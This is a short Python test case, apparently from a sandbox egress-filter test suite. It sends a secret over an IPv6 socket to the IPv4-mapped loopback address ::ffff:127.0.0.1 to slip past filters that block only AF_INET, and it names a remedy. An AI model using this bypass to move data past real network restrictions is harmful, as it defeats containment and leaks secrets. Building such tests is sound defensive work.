# SPDX-License-Identifier: MIT
"""Goal:  bytes reach the attacker's host.
Means: an IPv6 socket and the IPv4 address in IPv6 notation, ::ffff:127.0.0.1. A filter that denies
       AF_INET, or a list of IPv4 addresses, does not match.
"""

import socket

from attack import DONE, attempting, denied


def run(brief):
    attempting()
    try:
        with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as sink:
            sink.settimeout(3)
            sink.connect(("::ffff:127.0.0.1", brief.sink))
            sink.sendall(brief.secret.encode())
    except OSError as why:
        return denied("IPv6", why)
    return DONE


ATTACK = {
    "effect": "bytes reach the attacker's host",
    "means": "AF_INET6 to ::ffff:127.0.0.1, which filters of AF_INET do not match",
    "oracle": "sink",
    "needs": ["ipv6"],
    "id": "NET-05",
    "attack_id": "T1041, CWE-184",
    "remedy": "seccomp that allows address families by list; a network namespace",
    "refs": ["ipv6(7)"],
    "run": run,
}
